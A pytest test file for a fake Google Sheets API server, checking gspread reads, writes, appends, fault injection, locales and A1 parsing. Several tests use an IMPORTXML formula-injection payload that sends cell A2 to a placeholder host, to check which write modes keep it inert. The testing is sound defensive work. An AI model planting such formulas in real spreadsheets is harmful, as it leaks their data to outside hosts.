"""The Sheets fake, driven by the real gspread 6 client over loopback HTTP."""

from __future__ import annotations

import threading
import time
from datetime import datetime, timedelta

import gspread
import pytest
import requests
from gspread.exceptions import APIError, SpreadsheetNotFound
from gspread.utils import InsertDataOption, ValueInputOption, ValueRenderOption

from tests.fakes.sheets_api import (
    FORMULA_RESULT_PREFIX,
    FakeCredentials,
    FakeSheetsAPI,
    GridRange,
    gspread_client_for,
    parse_a1,
    split_sheet_title,
)

SID = "1dealregTestSheetId"
HEADER = ["claim_id", "company", "domain", "partner"]
INJECTION = '=IMPORTXML("http://x/?"&A2,"//a")'

@pytest.fixture
def book(api: FakeSheetsAPI) -> gspread.Spreadsheet:
    api.create_spreadsheet(
        SID,
        sheets={
            "Registrations": [HEADER, ["c1", "Acme", "acme.com", "p1"], ["c2", "Globex", "globex.com", "p2"]],
            "Named accounts": [],
        },
    )
    sh = gspread_client_for(api.base_url).open_by_key(SID)
    api.reset_log()
    return sh


@pytest.fixture
def ws(book: gspread.Spreadsheet, api: FakeSheetsAPI) -> gspread.Worksheet:
    sheet = book.worksheet("Registrations")
    api.reset_log()  # tests count only their own requests
    return sheet


# ---------------------------------------------------------------- opening, metadata


def test_open_by_key_reads_metadata_once(api):
    api.create_spreadsheet(SID, title="Deal registrations", sheets={"Registrations": [HEADER], "Audit": None})
    sh = gspread_client_for(api.base_url).open_by_key(SID)

    assert sh.title == "Deal registrations"
    assert sh.locale == "en_US"
    [get] = api.requests
    assert (get.method, get.kind, get.path) == ("GET", "spreadsheets.get", f"/v4/spreadsheets/{SID}")
    assert get.param("includeGridData") == "false"

    reg = sh.worksheet("Registrations")  # gspread fetches metadata again
    assert (reg.id, reg.index, reg.row_count, reg.col_count) == (0, 0, 1000, 26)
    assert [w.title for w in sh.worksheets()] == ["Registrations", "Audit"]
    assert api.count(kind="spreadsheets.get") == 3


def test_unknown_spreadsheet_is_404_with_googles_body(api):
    client = gspread_client_for(api.base_url)
    with pytest.raises(SpreadsheetNotFound) as info:
        client.open_by_key("nope")
    assert info.value.args[0].json() == {
        "error": {"code": 404, "message": "Requested entity was not found.", "status": "NOT_FOUND"}
    }


def test_requests_without_a_bearer_token_get_401(api):
    api.create_spreadsheet(SID)
    r = requests.get(f"{api.base_url}/v4/spreadsheets/{SID}", timeout=5)
    assert r.status_code == 401
    assert r.json()["error"]["status"] == "UNAUTHENTICATED"


def test_gspread_sends_the_fake_bearer_token(book, api):
    r = requests.get(f"{api.base_url}/v4/spreadsheets/{SID}", headers={"Authorization": "Bearer anything"}, timeout=5)
    assert r.status_code == 200
    assert r.json()["sheets"][1]["properties"]["title"] == "Named accounts"


# ---------------------------------------------------------------- reads


def test_get_all_values_and_records(ws, api):
    assert ws.get_all_values() == [HEADER, ["c1", "Acme", "acme.com", "p1"], ["c2", "Globex", "globex.com", "p2"]]
    assert ws.get_all_records()[1] == {"claim_id": "c2", "company": "Globex", "domain": "globex.com", "partner": "p2"}
    [first, _] = api.requests
    assert (first.kind, first.path, first.query) == ("values.get", f"/v4/spreadsheets/{SID}/values/%27Registrations%27", {})


def test_trailing_empties_trimmed_interior_rows_kept(api):
    api.create_spreadsheet(SID, sheets={"Sheet1": [["a", "", "c", "", ""], ["", ""], ["x"], ["", "", ""]]})
    sh = gspread_client_for(api.base_url).open_by_key(SID)

    raw = sh.values_get("'Sheet1'")
    assert raw == {"range": "Sheet1!A1:Z1000", "majorDimension": "ROWS", "values": [["a", "", "c"], [], ["x"]]}
    assert sh.sheet1.get_all_values() == [["a", "", "c"], ["", "", ""], ["x", "", ""]]
    assert "values" not in sh.values_get("'Sheet1'!B1:B", params={"majorDimension": "COLUMNS"})


def test_empty_range_has_no_values_key(book):
    raw = book.values_get("'Named accounts'!A1:C")
    assert raw == {"range": "'Named accounts'!A1:C1000", "majorDimension": "ROWS"}
    assert book.worksheet("Named accounts").get_all_records() == []


def test_batch_get_row_and_column_ranges(ws, api):
    ranges = ws.batch_get(["A1:B2", "D3", "C:C", "2:2"])
    assert [r.range for r in ranges] == [
        "Registrations!A1:B2",
        "Registrations!D3",
        "Registrations!C1:C1000",
        "Registrations!A2:Z2",
    ]
    assert ranges[0] == [["claim_id", "company"], ["c1", "Acme"]]
    assert ranges[2] == [["domain"], ["acme.com"], ["globex.com"]]
    [req] = api.requests
    assert req.kind == "values.batchGet"
    assert req.query["ranges"] == ["'Registrations'!A1:B2", "'Registrations'!D3", "'Registrations'!C:C", "'Registrations'!2:2"]


def test_row_and_col_values_use_open_ended_ranges(ws, api):
    assert ws.row_values(2) == ["c1", "Acme", "acme.com", "p1"]  # range A2:2
    assert ws.col_values(2) == ["company", "Acme", "Globex"]  # range B1:B, COLUMNS
    assert [r.range for r in api.requests] == ["'Registrations'!A2:2", "'Registrations'!B1:B"]


def test_quoted_sheet_names_with_spaces_and_quotes(book, api):
    odd = book.add_worksheet("Partner's deals", rows=10, cols=5)
    odd.update([["one", "two"]], "B2")
    assert api.values(SID, "Partner's deals") == [[], ["", "one", "two"]]
    assert book.values_get("'Partner''s deals'!B2:C2")["range"] == "'Partner''s deals'!B2:C2"

    named = book.worksheet("Named accounts")
    res = named.append_row(["acme.com", "p1"])
    assert res["updates"]["updatedRange"] == "'Named accounts'!A1:B1"
    assert named.get_all_values() == [["acme.com", "p1"]]


def test_unknown_sheet_in_range_is_400(book):
    with pytest.raises(APIError) as info:
        book.values_get("'Missing'!A1")
    assert info.value.code == 400
    assert info.value.error["message"] == "Unable to parse range: 'Missing'!A1"


# ---------------------------------------------------------------- RAW vs USER_ENTERED


def test_formula_user_entered_is_a_formula_raw_is_text(ws, api):
    ws.append_row(["c3", INJECTION], value_input_option=ValueInputOption.raw)
    ws.append_row(["c4", INJECTION], value_input_option=ValueInputOption.user_entered)

    raw_req, typed_req = api.requests
    assert raw_req.param("valueInputOption") == "RAW"
    assert typed_req.param("valueInputOption") == "USER_ENTERED"
    assert raw_req.body == {"values": [["c3", INJECTION]]}

    assert not api.cell_is_formula(SID, "Registrations", "B4")
    assert api.cell_is_formula(SID, "Registrations", "B5")
    assert api.values(SID, "Registrations")[3:] == [["c3", INJECTION], ["c4", INJECTION]]

    # Reading back: RAW comes back as the identical literal; the formula never does.
    assert ws.acell("B4").value == INJECTION
    assert ws.acell("B5").value == FORMULA_RESULT_PREFIX + INJECTION
    assert ws.acell("B4", value_render_option=ValueRenderOption.formula).value == INJECTION
    assert ws.acell("B5", value_render_option=ValueRenderOption.formula).value == INJECTION


def test_user_entered_coerces_numbers_quotes_and_signs(ws, api):
    row = ["00123", "'00123", "1,000", "+49 151 1234", "-1", "2026-11-20", "true"]
    ws.update([row], "A10", raw=False)
    ws.update([row], "A11")  # raw=True is gspread's default

    typed = ws.get("A10:G10", value_render_option=ValueRenderOption.unformatted)[0]
    assert typed == [123, "00123", 1000, FORMULA_RESULT_PREFIX + "=+49 151 1234", -1, 46346, True]
    assert ws.get("A10:G10")[0] == ["123", "00123", "1,000", FORMULA_RESULT_PREFIX + "=+49 151 1234", "-1", "2026-11-20", "TRUE"]
    assert ws.get("A11:G11", value_render_option=ValueRenderOption.unformatted)[0] == row
    assert api.cell_kind(SID, "Registrations", "A10") == "number"
    assert api.cell_kind(SID, "Registrations", "A11") == "text"


def test_update_acell_is_always_user_entered(ws, api):
    ws.update_acell("E2", INJECTION)  # gspread hard-codes USER_ENTERED here
    assert api.requests[-1].param("valueInputOption") == "USER_ENTERED"
    assert api.cell_is_formula(SID, "Registrations", "E2")


def test_json_numbers_stay_numbers_under_raw(ws):
    ws.update([[7, 2.5, True]], "A20")
    assert ws.get("A20:C20")[0] == ["7", "2.5", "TRUE"]
    assert ws.get("A20:C20", value_render_option=ValueRenderOption.unformatted)[0] == [7, 2.5, True]


# ---------------------------------------------------------------- writes


def test_append_goes_after_the_last_row_of_the_table(ws, api):
    res = ws.append_rows([["c3", "Initech", "initech.com", "p1"], ["c4", "Umbrella", "umbrella.com", "p3"]])
    assert res == {
        "spreadsheetId": SID,
        "tableRange": "Registrations!A1:D3",
        "updates": {
            "spreadsheetId": SID,
            "updatedRange": "Registrations!A4:D5",
            "updatedRows": 2,
            "updatedColumns": 4,
            "updatedCells": 8,
        },
    }
    assert [r[0] for r in api.values(SID, "Registrations")] == ["claim_id", "c1", "c2", "c3", "c4"]
    [req] = api.requests
    assert req.path == f"/v4/spreadsheets/{SID}/values/%27Registrations%27:append"
    assert req.query == {"valueInputOption": ["RAW"]}  # gspread drops None params


def test_append_to_an_empty_sheet_has_no_table_range(book):
    res = book.worksheet("Named accounts").append_row(["acme.com"])
    assert "tableRange" not in res
    assert res["updates"]["updatedRange"] == "'Named accounts'!A1"


def test_append_stops_at_a_blank_row_like_google(api):
    # Google's table ends at the first blank row, so an append fills that gap.
    api.create_spreadsheet(SID, sheets={"Sheet1": [["h"], ["a"], [], ["b"]]})
    ws = gspread_client_for(api.base_url).open_by_key(SID).sheet1
    res = ws.append_row(["new"])
    assert res["tableRange"] == "Sheet1!A1:A2"
    assert api.values(SID, "Sheet1") == [["h"], ["a"], ["new"], ["b"]]


def test_append_insert_rows_and_grid_growth(api):
    api.create_spreadsheet(SID, sheets={"Sheet1": [["h"], ["a"], [], ["b"]]}, rows=4, cols=3)
    ws = gspread_client_for(api.base_url).open_by_key(SID).sheet1
    ws.append_row(["new"], insert_data_option=InsertDataOption.insert_rows)
    assert api.values(SID, "Sheet1") == [["h"], ["a"], ["new"], [], ["b"]]
    assert api.grid_size(SID, "Sheet1") == (5, 3)

    ws.append_rows([["x"]], table_range="A5")  # the table at A5 is full to the last row
    assert api.grid_size(SID, "Sheet1") == (6, 3)
    with pytest.raises(APIError) as info:  # append grows rows, never columns
        ws.append_row(["1", "2", "3", "4"])
    assert info.value.error["message"] == "Range (Sheet1!D4) exceeds grid limits. Max rows: 6, max columns: 3"


def test_append_can_echo_values(ws):
    res = ws.append_row(["c3", "00123"], value_input_option="USER_ENTERED", include_values_in_response=True)
    assert res["updates"]["updatedData"] == {"range": "Registrations!A4:B4", "majorDimension": "ROWS", "values": [["c3", "123"]]}


def test_update_values_first_then_range(ws, api):
    res = ws.update([["Acme Corp", "acme.com"]], "B2")
    assert res == {
        "spreadsheetId": SID,
        "updatedRange": "Registrations!B2:C2",
        "updatedRows": 1,
        "updatedColumns": 2,
        "updatedCells": 2,
    }
    [req] = api.requests
    assert (req.method, req.kind, req.range) == ("PUT", "values.update", "'Registrations'!B2")
    assert req.body == {"values": [["Acme Corp", "acme.com"]], "majorDimension": None}
    assert api.values(SID, "Registrations")[1] == ["c1", "Acme Corp", "acme.com", "p1"]

    ws.update([["z1", "z2"]], "A6", major_dimension="COLUMNS")
    assert api.values(SID, "Registrations")[5:] == [["z1"], ["z2"]]


def test_update_outside_its_range_or_the_grid_is_400(ws):
    with pytest.raises(APIError) as info:
        ws.update([["1"], ["2"], ["3"]], "A1:A2")
    assert info.value.error["message"] == "Requested writing within range [Registrations!A1:A2], but tried writing to row [3]"
    with pytest.raises(APIError) as info:
        ws.update([["x"]], "A1001")
    assert info.value.code == 400
    assert info.value.error["message"] == "Range (Registrations!A1001) exceeds grid limits. Max rows: 1000, max columns: 26"


def test_oversized_cell_is_400(ws, api):
    with pytest.raises(APIError) as info:
        ws.append_row(["x" * 50_001])
    assert "maximum of 50000 characters" in info.value.error["message"]
    assert len(api.values(SID, "Registrations")) == 3


def test_batch_update_values_is_atomic(ws, api):
    res = ws.batch_update([{"range": "E1", "values": [["owner"]]}, {"range": "E2:E3", "values": [["p1"], ["p2"]]}])
    assert (res["totalUpdatedCells"], res["totalUpdatedSheets"], len(res["responses"])) == (3, 1, 2)
    [req] = api.requests
    assert req.body["valueInputOption"] == "RAW"
    assert req.body["data"][0] == {"range": "'Registrations'!E1", "values": [["owner"]]}
    assert [r[4] for r in api.values(SID, "Registrations")] == ["owner", "p1", "p2"]

    with pytest.raises(APIError):
        ws.batch_update([{"range": "F1", "values": [["kept?"]]}, {"range": "A1001", "values": [["bad"]]}])
    assert api.cell_kind(SID, "Registrations", "F1") is None


def test_clear_and_batch_clear(ws, api):
    assert ws.batch_clear(["B2:C2"])["clearedRanges"] == ["Registrations!B2:C2"]
    assert api.values(SID, "Registrations")[1] == ["c1", "", "", "p1"]
    assert ws.clear() == {"spreadsheetId": SID, "clearedRange": "Registrations!A1:Z1000"}
    assert api.values(SID, "Registrations") == []
    assert [r.kind for r in api.requests] == ["values.batchClear", "values.clear"]


# ---------------------------------------------------------------- structure (spreadsheets.batchUpdate)


def test_add_worksheet_and_duplicate_title(book, api):
    audit = book.add_worksheet("Audit", rows=50, cols=8)
    assert (audit.title, audit.row_count, audit.col_count, audit.index) == ("Audit", 50, 8, 2)
    assert api.sheet_titles(SID) == ["Registrations", "Named accounts", "Audit"]

    with pytest.raises(APIError) as info:
        book.add_worksheet("audit", rows=1, cols=1)  # titles are unique ignoring case
    assert info.value.code == 400
    assert info.value.error["status"] == "INVALID_ARGUMENT"
    assert info.value.error["message"] == (
        'Invalid requests[0].addSheet: A sheet with the name "audit" already exists. Please enter another name.'
    )
    book.del_worksheet(audit)
    assert api.sheet_titles(SID) == ["Registrations", "Named accounts"]


def test_freeze_format_resize_insert_delete(ws, api):
    ws.freeze(rows=1)
    assert ws.format("A1:D1", {"textFormat": {"bold": True}})["replies"] == [{}]
    ws.resize(rows=20)
    assert api.grid_size(SID, "Registrations") == (20, 26)
    ws.insert_row(["c0", "First", "first.com", "p9"], index=2)
    assert [r[0] for r in api.values(SID, "Registrations")] == ["claim_id", "c0", "c1", "c2"]
    ws.delete_rows(3)
    assert [r[0] for r in api.values(SID, "Registrations")] == ["claim_id", "c0", "c2"]
    ws.update_title("Regs")
    assert api.sheet_titles(SID)[0] == "Regs"
    meta = api.requests[-1]
    assert meta.body["requests"][0]["updateSheetProperties"]["fields"] == "title"
    assert book_props(api)["gridProperties"] == {"rowCount": 20, "columnCount": 26, "frozenRowCount": 1}


def book_props(api: FakeSheetsAPI) -> dict:
    r = requests.get(f"{api.base_url}/v4/spreadsheets/{SID}", headers={"Authorization": "Bearer t"}, timeout=5)
    return r.json()["sheets"][0]["properties"]


# ---------------------------------------------------------------- unsupported


def test_unsupported_calls_answer_501(ws, api):
    with pytest.raises(APIError) as info:
        ws.copy_to("other")  # POST .../sheets/0:copyTo
    assert info.value.code == 501
    assert "does not implement POST" in info.value.error["message"]
    with pytest.raises(APIError) as info:
        ws.duplicate()  # batchUpdate duplicateSheet
    assert info.value.code == 501
    with pytest.raises(APIError) as info:
        ws.spreadsheet.fetch_sheet_metadata(params={"includeGridData": "true"})
    assert info.value.code == 501
    assert [r.status for r in api.requests] == [501, 501, 501]


# ---------------------------------------------------------------- faults


def test_429_has_googles_quota_body(ws, api):
    api.inject("values.get", 429)
    api.inject("values.append", 429)
    with pytest.raises(APIError) as read_err:
        ws.get_all_values()
    with pytest.raises(APIError) as write_err:
        ws.append_row(["c3"])
    assert read_err.value.code == 429
    assert read_err.value.error["status"] == "RESOURCE_EXHAUSTED"
    assert read_err.value.error["message"].startswith("Quota exceeded for quota metric 'Read requests'")
    assert "'Write requests per minute per user'" in write_err.value.error["message"]
    assert write_err.value.error["details"][0]["reason"] == "RATE_LIMIT_EXCEEDED"
    assert len(api.values(SID, "Registrations")) == 3  # nothing written
    assert len(ws.get_all_values()) == 3  # faults are used up


@pytest.mark.parametrize(("fault", "status"), [(500, "INTERNAL"), (503, "UNAVAILABLE")])
def test_5xx_does_not_write(ws, api, fault, status):
    api.inject("values.append", fault)
    with pytest.raises(APIError) as info:
        ws.append_row(["c3"])
    assert (info.value.code, info.value.error["status"]) == (fault, status)
    assert len(api.values(SID, "Registrations")) == 3


def test_503_after_write_leaves_the_row(ws, api):
    api.inject("values.append", "503-after-write")
    with pytest.raises(APIError) as info:
        ws.append_row(["c3", "Initech"])
    assert info.value.code == 503
    assert info.value.error["message"] == "The service is currently unavailable."
    assert api.values(SID, "Registrations")[-1] == ["c3", "Initech"]  # the ambiguous write landed
    assert api.requests[-1].fault == "503-after-write"


@pytest.mark.parametrize(("fault", "rows"), [("reset", 3), ("reset-after-write", 4)])
def test_connection_reset(ws, api, fault, rows):
    api.inject("values.append", fault)
    with pytest.raises(requests.ConnectionError):
        ws.append_row(["c3"])
    assert len(api.values(SID, "Registrations")) == rows
    assert api.requests[-1].status is None
    ws.append_row(["c9"])  # the client reconnects afterwards
    assert api.values(SID, "Registrations")[-1] == ["c9"]


def test_slow_answers_after_the_delay(ws, api):
    api.inject("values.get", ("slow", 0.2))
    start = time.monotonic()
    assert len(ws.get_all_values()) == 3
    assert time.monotonic() - start >= 0.2


def test_faults_are_consumed_in_order_and_by_kind(ws, api):
    api.inject("values.append", 429, times=2)
    api.inject(None, 503)
    with pytest.raises(APIError) as read:
        ws.get_all_values()  # the append rule skips reads; the kind-less rule takes it
    assert read.value.code == 503
    codes = []
    for _ in range(3):
        try:
            ws.append_row(["x"])
            codes.append(200)
        except APIError as err:
            codes.append(err.code)
    assert codes == [429, 429, 200]
    assert [r.fault for r in api.requests] == [503, 429, 429, None]


def test_quota_per_minute_rolls(ws, api):
    now = [1000.0]
    api.clock = lambda: now[0]
    api.quota_per_minute = 2
    ws.get_all_values()
    ws.get_all_values()
    with pytest.raises(APIError) as info:
        ws.get_all_values()
    assert info.value.code == 429
    ws.append_row(["w"])  # writes have their own quota
    now[0] += 60
    assert len(ws.get_all_values()) == 4


def test_inject_rejects_unknown_faults(api):
    with pytest.raises(ValueError):
        api.inject("values.get", 418)
    with pytest.raises(ValueError):
        api.inject("values.nope", 429)


# ---------------------------------------------------------------- appendCells / updateCells


def _text(value: str) -> dict:
    return {"userEnteredValue": {"stringValue": value}}


def test_append_cells_adds_rows_after_the_last_row_with_data_as_text(book, api):
    api.set_values(SID, "Registrations", [HEADER, ["c1"], [], ["", "", "", "", "note far down"]])
    book.batch_update({"requests": [{"appendCells": {
        "sheetId": 0, "fields": "userEnteredValue",
        "rows": [{"values": [_text("c2"), _text(INJECTION), {}, _text("+1")]},
                 {"values": [{"userEnteredValue": {"numberValue": 7}}, {"userEnteredValue": {"boolValue": True}}]}],
    }}]})
    rows = api.values(SID, "Registrations")
    assert rows[4:] == [["c2", INJECTION, "", "+1"], ["7", "TRUE"]]  # below the extra column's last value
    assert not api.cell_is_formula(SID, "Registrations", "B5")  # a stringValue is never a formula
    assert api.cell_kind(SID, "Registrations", "D5") == "text"
    assert (api.cell_kind(SID, "Registrations", "A6"), api.cell_kind(SID, "Registrations", "B6")) == ("number", "bool")
    assert api.count(kind="spreadsheets.batchUpdate") == 1


def test_append_cells_grows_the_grid_but_not_its_columns(api):
    api.create_spreadsheet(SID, sheets={"Decisions": [["a"], ["b"]]}, rows=2, cols=3)
    book = gspread_client_for(api.base_url).open_by_key(SID)
    book.batch_update({"requests": [{"appendCells": {"sheetId": 0, "fields": "*", "rows": [{"values": [_text("c")]}]}}]})
    assert api.grid_size(SID, "Decisions") == (3, 3)
    with pytest.raises(APIError, match="exceeds grid limits"):
        book.batch_update({"requests": [{"appendCells": {
            "sheetId": 0, "fields": "userEnteredValue", "rows": [{"values": [_text("x")] * 4}]}}]})
    assert api.values(SID, "Decisions") == [["a"], ["b"], ["c"]]


def test_formula_value_is_a_formula_and_update_cells_clears_cells_without_a_value(book, api):
    book.batch_update({"requests": [
        {"updateCells": {"start": {"sheetId": 0, "rowIndex": 1, "columnIndex": 1}, "fields": "userEnteredValue",
                         "rows": [{"values": [{"userEnteredValue": {"formulaValue": "=1+1"}}, {}]}]}},
    ]})
    assert api.values(SID, "Registrations")[1] == ["c1", "=1+1", "", "p1"]
    assert api.cell_is_formula(SID, "Registrations", "B2")


def test_update_cells_over_a_range_clears_what_its_rows_do_not_cover(book, api):
    book.batch_update({"requests": [{"updateCells": {
        "range": {"sheetId": 0, "startRowIndex": 1, "endRowIndex": 3, "startColumnIndex": 0, "endColumnIndex": 2},
        "fields": "userEnteredValue", "rows": [{"values": [_text("n1")]}]}}]})
    assert api.values(SID, "Registrations")[1:] == [["n1", "", "acme.com", "p1"], ["", "", "globex.com", "p2"]]


@pytest.mark.parametrize(("request_", "message"), [
    ({"updateCells": {"start": {"sheetId": 0, "rowIndex": 1000}, "fields": "userEnteredValue",
                      "rows": [{"values": [_text("x")]}]}}, "exceeds grid limits"),
    ({"updateCells": {"fields": "userEnteredValue", "rows": []}}, "Exactly one of start or range"),
    ({"appendCells": {"sheetId": 0, "rows": [{"values": [_text("x")]}]}}, "At least one field"),
    ({"appendCells": {"sheetId": 0, "fields": "*", "rows": [{"values": [{"userEnteredValue": {"stringValue": 1}}]}]}},
     "Invalid ExtendedValue"),
    ({"appendCells": {"sheetId": 9, "fields": "*", "rows": []}}, "No grid with id"),
    ({"appendCells": {"sheetId": 0, "fields": "*", "rows": [{"values": [_text("x" * 50_001)]}]}}, "50000 characters"),
])
def test_bad_cell_requests_are_400_and_the_whole_batch_is_refused(book, api, request_, message):
    before = api.values(SID, "Registrations")
    good = {"appendCells": {"sheetId": 0, "fields": "userEnteredValue", "rows": [{"values": [_text("kept?")]}]}}
    with pytest.raises(APIError, match=message) as info:
        book.batch_update({"requests": [good, request_]})
    assert info.value.code == 400
    assert api.values(SID, "Registrations") == before  # atomic: the good request did not land either


# ---------------------------------------------------------------- log and concurrency


def test_request_log_counts_per_call(book, api):
    ws = book.worksheet("Registrations")  # 1 spreadsheets.get
    ws.get_all_records()  # 1 values.get
    ws.find("acme.com")  # 1 values.get, matched client-side
    ws.append_row(["c3"])  # 1 values.append
    ws.update([["x"]], "E1")  # 1 values.update
    assert api.count(kind="spreadsheets.get") == 1
    assert api.count(kind="values.get") == 2
    assert api.count(method="post") == 1
    assert api.count(method="PUT", kind="values.update") == 1
    assert api.count() == 5
    assert all(r.status == 200 for r in api.requests)
    api.reset_log()
    assert api.count() == 0


def test_twenty_concurrent_appends_all_land(ws, api):
    clients = [gspread_client_for(api.base_url).open_by_key(SID).worksheet("Registrations") for _ in range(20)]
    api.reset_log()
    gate = threading.Barrier(20)
    errors: list[BaseException] = []

    def register(i: int) -> None:
        try:
            gate.wait()
            clients[i].append_row([f"t{i}", f"Company {i}"])
        except BaseException as exc:  # collected so the main thread fails the test
            errors.append(exc)

    threads = [threading.Thread(target=register, args=(i,)) for i in range(20)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=10)
    assert errors == []
    rows = api.values(SID, "Registrations")
    assert len(rows) == 3 + 20
    assert sorted(r[0] for r in rows[3:]) == sorted(f"t{i}" for i in range(20))
    assert api.count(kind="values.append") == 20


# ---------------------------------------------------------------- the internet stays out


def test_other_google_apis_are_refused_by_the_transport(book, api):
    with pytest.raises(requests.ConnectionError, match="blocked in tests"):
        book.get_lastUpdateTime()  # Drive API on www.googleapis.com
    assert api.count() == 0


def test_unredirected_gspread_cannot_reach_google(no_internet):
    client = gspread.Client(auth=FakeCredentials())  # no redirect: would go to the real API
    with pytest.raises(requests.ConnectionError):
        client.open_by_key(SID)
    assert no_internet == ["sheets.googleapis.com"]
    no_internet.clear()  # expected; the autouse check must not fail on it


# ---------------------------------------------------------------- A1 parsing


@pytest.mark.parametrize(
    ("a1", "grid"),
    [
        ("", GridRange()),
        ("A1", GridRange(0, 1, 0, 1, single_cell=True)),
        ("B2:A1", GridRange(0, 2, 0, 2)),
        ("A1:Z", GridRange(0, None, 0, 26)),
        ("A2:Z1000", GridRange(1, 1000, 0, 26)),
        ("A:C", GridRange(None, None, 0, 3)),
        ("1:1", GridRange(0, 1, None, None)),
        ("A5:5", GridRange(4, 5, 0, None)),
        ("$AA$10", GridRange(9, 10, 26, 27, single_cell=True)),
    ],
)
def test_parse_a1(a1, grid):
    assert parse_a1(a1) == grid


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        ("'Named accounts'!A1:C", ("Named accounts", "A1:C")),
        ("'Partner''s deals'", ("Partner's deals", "")),
        ("Registrations!A2", ("Registrations", "A2")),
        ("Registrations", (None, "Registrations")),
        ("A1:B2", (None, "A1:B2")),
    ],
)
def test_split_sheet_title(text, parts):
    assert split_sheet_title(text) == parts


@pytest.mark.parametrize("bad", ["A0", "1A", "A1:", "ABCD1", "A:1"])
def test_parse_a1_rejects(bad):
    with pytest.raises(ValueError):
        parse_a1(bad)


def test_sheet_with_colon_in_title_survives_quoting(api):
    # ':' inside the quoted range is %3A; only the literal ':append' is the verb.
    api.create_spreadsheet(SID, sheets={"Q1: deals": []})
    ws = gspread_client_for(api.base_url).open_by_key(SID).sheet1
    ws.append_row(["a"])
    ws.append_row(["b"])
    assert api.values(SID, "Q1: deals") == [["a"], ["b"]]
    assert api.requests[-1].range == "'Q1: deals'"


# ---------------------------------------------------------------- locale, dates, render options


def serial(*moment: int) -> int | float:
    """Google's date serial number: days since 1899-12-30, the time as a fraction of the day."""
    days = (datetime(*moment) - datetime(1899, 12, 30)) / timedelta(days=1)
    return int(days) if days.is_integer() else days


def test_spreadsheets_get_reports_the_locale_and_time_zone_set_per_spreadsheet(api):
    api.create_spreadsheet(SID, sheets={"Registrations": [HEADER]}, locale="de_DE", time_zone="Europe/Berlin")
    sh = gspread_client_for(api.base_url).open_by_key(SID)
    assert (sh.locale, sh.timezone) == ("de_DE", "Europe/Berlin")
    api.set_properties(SID, locale="en_GB", time_zone="Europe/London")
    assert sh.fetch_sheet_metadata()["properties"]["locale"] == "en_GB"
    sh.update_locale("en_US")  # updateSpreadsheetProperties, as the API client sends it
    sh.update_timezone("America/New_York")
    assert {k: v for k, v in sh.fetch_sheet_metadata()["properties"].items() if k in ("locale", "timeZone")} == {
        "locale": "en_US", "timeZone": "America/New_York"}
    with pytest.raises(APIError) as info:  # a locale the fake does not model is refused, never guessed
        sh.update_locale("xx_YY")
    assert info.value.code == 501
    with pytest.raises(ValueError, match="the fake models the locales"):
        api.create_spreadsheet("other", locale="xx_YY")


@pytest.mark.parametrize(("locale", "typed", "kind", "unformatted"), [
    ("en_US", "12/1/2026", "date", serial(2026, 12, 1)),
    ("en_US", "12/1/2026 14:30", "date", serial(2026, 12, 1, 14, 30)),
    ("en_US", "2026-12-01", "date", serial(2026, 12, 1)),
    ("en_US", "48,000", "number", 48000),
    ("en_US", "1.5", "number", 1.5),
    ("en_US", "31/02/2026", "text", "31/02/2026"),  # impossible: the UI keeps it as text
    ("en_US", "'12/1/2026", "text", "12/1/2026"),  # a leading ' forces text
    ("de_DE", "1.12.2026", "date", serial(2026, 12, 1)),
    ("de_DE", "2026-12-01", "date", serial(2026, 12, 1)),
    ("de_DE", "48.000", "number", 48000),
    ("de_DE", "1,5", "number", 1.5),
    ("de_DE", "12/1/2026", "text", "12/1/2026"),  # not how de_DE writes dates
    ("en_GB", "01/12/2026", "date", serial(2026, 12, 1)),
    ("en_GB", "12/1/2026", "date", serial(2026, 1, 12)),  # day first
    ("en_GB", "31/02/2026", "text", "31/02/2026"),
    ("ja_JP", "2026/12/01", "date", serial(2026, 12, 1)),
])
def test_a_hand_edit_is_parsed_like_the_ui_in_the_spreadsheets_locale(api, locale, typed, kind, unformatted):
    api.create_spreadsheet(SID, sheets={"Registrations": [HEADER]}, locale=locale)
    api.hand_edit(SID, "Registrations", "B2", [[typed]])
    ws = gspread_client_for(api.base_url).open_by_key(SID).sheet1
    assert api.cell_kind(SID, "Registrations", "B2") == kind
    assert ws.get("B2", value_render_option=ValueRenderOption.unformatted)[0] == [unformatted]
    shown = typed[1:] if typed.startswith("'") else typed
    assert ws.get("B2")[0] == [shown]  # FORMATTED_VALUE: as the partner manager typed it


def test_user_entered_writes_parse_in_the_spreadsheets_locale_and_string_values_never(api):
    api.create_spreadsheet(SID, sheets={"Registrations": [HEADER]}, locale="de_DE")
    sh = gspread_client_for(api.base_url).open_by_key(SID)
    ws = sh.sheet1
    ws.update([["1.12.2026", "48.000"]], "A2", raw=False)
    ws.update([["1.12.2026", "48.000"]], "A3")  # RAW
    strings = [{"userEnteredValue": {"stringValue": text}} for text in ("1.12.2026", "48.000")]
    sh.batch_update({"requests": [{"appendCells": {"sheetId": 0, "fields": "userEnteredValue",
                                                   "rows": [{"values": strings}]}}]})
    unformatted = ws.get("A2:B4", value_render_option=ValueRenderOption.unformatted)
    assert unformatted == [[serial(2026, 12, 1), 48000], ["1.12.2026", "48.000"], ["1.12.2026", "48.000"]]


def test_reads_honour_the_value_and_date_time_render_options(api):
    api.create_spreadsheet(SID, sheets={"Registrations": [HEADER]}, locale="de_DE")
    api.set_values(SID, "Registrations", [HEADER, ["", 2.5]])  # RAW: a JSON number
    api.hand_edit(SID, "Registrations", "A2", [["1.12.2026 14:30"]])
    api.hand_edit(SID, "Registrations", "C2", [["=A2+1"]])
    ws = gspread_client_for(api.base_url).open_by_key(SID).sheet1
    when = serial(2026, 12, 1, 14, 30)

    def read(value: str, date: str | None = None) -> list:
        return ws.get("A2:C2", value_render_option=value, date_time_render_option=date)[0]

    assert read("FORMATTED_VALUE") == ["1.12.2026 14:30", "2,5", FORMULA_RESULT_PREFIX + "=A2+1"]  # de_DE decimals
    assert read("FORMATTED_VALUE", "SERIAL_NUMBER") == read("FORMATTED_VALUE")  # ignored when formatted
    assert read("UNFORMATTED_VALUE") == [when, 2.5, FORMULA_RESULT_PREFIX + "=A2+1"]  # SERIAL_NUMBER by default
    assert read("UNFORMATTED_VALUE", "SERIAL_NUMBER") == [when, 2.5, FORMULA_RESULT_PREFIX + "=A2+1"]
    assert read("UNFORMATTED_VALUE", "FORMATTED_STRING") == ["1.12.2026 14:30", 2.5, FORMULA_RESULT_PREFIX + "=A2+1"]
    assert read("FORMULA", "SERIAL_NUMBER") == [when, 2.5, "=A2+1"]
    with pytest.raises(APIError) as info:
        read("UNFORMATTED_VALUE", "SOMETIMES")
    assert info.value.code == 400


